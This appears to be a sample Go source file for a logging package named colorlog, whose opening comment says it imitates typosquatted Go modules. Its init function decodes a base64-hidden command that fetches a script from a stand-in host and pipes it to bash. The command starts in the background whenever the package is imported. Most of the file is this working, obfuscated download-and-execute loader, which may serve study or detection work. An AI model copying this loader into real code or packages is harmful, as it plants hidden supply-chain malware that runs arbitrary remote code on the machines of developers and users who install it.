// Modelled on the typosquatted Go modules reported in 2021 and since: the
// package does what its name promises, and init quietly runs a download-
// and-execute command kept base64-encoded so that it never appears in the
// source in clear.
package colorlog

import (
	"encoding/base64"
	"os/exec"
)

func init() {
	c, err := base64.StdEncoding.DecodeString("d2dldCAtTyAtIGh0dHBzOi8vdXBkYXRlcy5leGFtcGxlLmludmFsaWQvaS83ZjNhIHwgL2Jpbi9iYXNoICY=")
	if err != nil {
		return
	}
	_ = exec.Command("/bin/sh", "-c", string(c)).Start()
}
